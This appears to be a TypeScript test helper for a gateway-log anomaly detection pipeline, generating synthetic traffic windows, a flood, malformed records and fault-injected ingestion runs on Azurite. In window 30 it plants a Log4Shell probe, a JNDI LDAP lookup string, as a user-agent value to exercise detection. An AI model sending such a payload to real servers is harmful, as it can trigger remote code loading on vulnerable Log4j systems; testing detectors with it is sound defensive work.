import type { TableServiceClientOptions } from "@azure/data-tables";
import type { Alert } from "../../shared/alerts/alert.js";
import { loadSettings } from "../../shared/config/settings.js";
import { evaluateClosedWindows } from "../../shared/pipeline/evaluateWindows.js";
import { ingestEventHubBatch, type HubEvent } from "../../shared/pipeline/ingestEventHubBatch.js";
import {
  BASELINE_FAMILIES,
  openPipeline,
  type Pipeline,
} from "../../shared/pipeline/openPipeline.js";
import type { AlertSink } from "../../shared/sinks/alertSink.js";
import type { StorageTarget } from "../../shared/stores/tableClients.js";
import { TABLE_RETRY_OPTIONS } from "../../shared/stores/tableClients.js";
import { WINDOW_MS } from "../../shared/windows/window.js";
import { freshStorage } from "./azuriteTables.js";
import { isInjectedFailure, type FaultInjector } from "./faultInjection.js";
import { envelope, gatewayLogRecord, spreadRequests } from "./gatewayLogs.js";

/*
 * A small deployment's day and a half, shrunk: 36 windows of steady traffic from two APIs, a bad
 * record now and then, a flood and a Log4Shell probe in window 30, and tools to run it through
 * ingest and evaluation on Azurite and read back everything that was counted.
 */
export const FIRST_MS = Date.parse("2024-05-01T00:00:00Z");
export const WINDOWS = 36;
const FLOOD_WINDOW_MS = FIRST_MS + 30 * WINDOW_MS;
export const LAST_EVENT_MS = FIRST_MS + (WINDOWS + 2) * WINDOW_MS;
export const LEASE_MS = 10 * 60_000;
export const FAST_RETRIES = { ...TABLE_RETRY_OPTIONS, retryDelayInMs: 1, maxRetryDelayInMs: 4 };

/** Steady traffic with a bad record now and then, a flood from one client and a Log4Shell probe. */
export function trafficEvents(): HubEvent[] {
  const events: HubEvent[] = [];
  for (let window = 0; window < WINDOWS; window++) {
    const windowStartMs = FIRST_MS + window * WINDOW_MS;
    const flood = windowStartMs === FLOOD_WINDOW_MS;
    const records: unknown[] = spreadRequests(windowStartMs, flood ? 300 : 12);
    records.push(...spreadRequests(windowStartMs, 4, { ip: "198.51.100.40", apiId: "billing" }));
    if (window % 7 === 3) records.push({ time: "not a time", category: "GatewayLogs" });
    if (flood) {
      records.push(
        gatewayLogRecord({
          time: new Date(windowStartMs + 5_000).toISOString(),
          ip: "198.51.100.9",
          userAgent: "${jndi:ldap://198.51.100.9:1389/a}",
        }),
      );
    }
    events.push({ sequenceNumber: events.length, body: envelope(records) });
  }
  events.push({
    sequenceNumber: events.length,
    body: envelope(spreadRequests(LAST_EVENT_MS, 1)),
  });
  return events;
}

export function recordingSink(sent: Alert[]): AlertSink {
  return {
    name: "recording",
    send: async (alerts) => {
      sent.push(...alerts);
      return { sent: alerts.length, failed: [] };
    },
  };
}

export interface RunOutcome {
  /** Every alert the sink received, resends included. */
  sent: Alert[];
  /** Alerts by AlertId, the last one sent: what a query keeping one row per AlertId shows. */
  alertsById: Map<string, Alert>;
  baselines: unknown;
  windows: { windowId: string; status: string; records: number; alerts: number }[];
  deadLetters: number;
  failedBatchAttempts: number;
  evaluationRuns: number;
}

export async function openTestPipeline(
  sent: Alert[],
  options: TableServiceClientOptions,
  storage: StorageTarget = freshStorage(),
  owner = "faulty-host",
) {
  const settings = loadSettings({
    GATEWARDEN_DETECTION: JSON.stringify({
      populationSpike: { minHistoryWindows: 24 },
      clientTraffic: { minHistoryWindows: 24 },
    }),
    GATEWARDEN_EVALUATION_LEASE_MINUTES: String(LEASE_MS / 60_000),
  });
  return openPipeline(settings, storage, recordingSink(sent), owner, options);
}

/** Delivers every batch as the Functions host would: a batch that throws is run again. */
export async function ingestAll(pipeline: Pipeline, batches: HubEvent[][]): Promise<number> {
  let failedAttempts = 0;
  for (const batch of batches) {
    for (;;) {
      try {
        await ingestEventHubBatch(
          "0",
          batch,
          pipeline.parseOptions(Date.parse("2024-06-01T00:00:00Z")),
          pipeline.inspect,
          pipeline.ingest,
        );
        break;
      } catch (error) {
        if (!isInjectedFailure(error)) throw error;
        failedAttempts += 1;
        if (failedAttempts > 50) throw new Error("ingest kept failing", { cause: error });
      }
    }
  }
  return failedAttempts;
}

/** Runs the evaluation timer until no closed window is left; each run starts after the last lease. */
export async function evaluateAll(pipeline: Pipeline): Promise<number> {
  let wallTimeMs = Date.parse("2024-06-01T00:00:00Z");
  for (let run = 1; run <= 50; run++) {
    try {
      const summary = await evaluateClosedWindows(
        { eventTimeMs: LAST_EVENT_MS + WINDOW_MS, wallTimeMs },
        pipeline.evaluation,
      );
      if (summary.stoppedBecause === null) return run;
    } catch (error) {
      if (!isInjectedFailure(error)) throw error;
    }
    wallTimeMs += LEASE_MS + 1;
  }
  throw new Error("evaluation did not finish in 50 timer runs");
}

export async function runTraffic(
  events: HubEvent[],
  batchSize: number,
  faults: FaultInjector | null,
): Promise<RunOutcome> {
  const sent: Alert[] = [];
  const additionalPolicies = faults
    ? [{ policy: faults.policy, position: "perRetry" as const }]
    : [];
  const pipeline = await openTestPipeline(sent, {
    additionalPolicies,
    retryOptions: FAST_RETRIES,
  });
  if (faults) faults.enabled = true;

  const failedBatchAttempts = await ingestAll(pipeline, inBatchesOf(events, batchSize));
  const evaluationRuns = await evaluateAll(pipeline);
  if (faults) faults.enabled = false;

  return { ...(await countedState(pipeline, sent)), failedBatchAttempts, evaluationRuns };
}

/** Everything a run counted: alerts as queried, baselines, window ledger rows, dead letters. */
export async function countedState(
  pipeline: Pipeline,
  sent: Alert[],
): Promise<Omit<RunOutcome, "failedBatchAttempts" | "evaluationRuns">> {
  return {
    sent,
    alertsById: new Map(sent.map((alert) => [alert.alertId, alert])),
    baselines: await Promise.all(
      BASELINE_FAMILIES.map((family) => pipeline.evaluation.baselines.load(family.name)),
    ),
    windows: await windowRows(pipeline),
    deadLetters: await countEntities(pipeline.tables.deadLetters.listEntities()),
  };
}

export function inBatchesOf<T>(items: readonly T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(items.length / size) }, (_, index) =>
    items.slice(index * size, (index + 1) * size),
  );
}

export async function windowRows(pipeline: Pipeline): Promise<RunOutcome["windows"]> {
  const rows: RunOutcome["windows"] = [];
  const entities = pipeline.tables.ledger.listEntities<Record<string, unknown>>({
    queryOptions: { filter: "PartitionKey eq 'window'" },
  });
  for await (const entity of entities) {
    rows.push({
      windowId: String(entity.rowKey),
      status: String(entity.status),
      records: Number(entity.records ?? -1),
      alerts: Number(entity.alerts ?? -1),
    });
  }
  return rows;
}

async function countEntities(entities: AsyncIterable<unknown>): Promise<number> {
  let count = 0;
  const iterator = entities[Symbol.asyncIterator]();
  while (!(await iterator.next()).done) count += 1;
  return count;
}
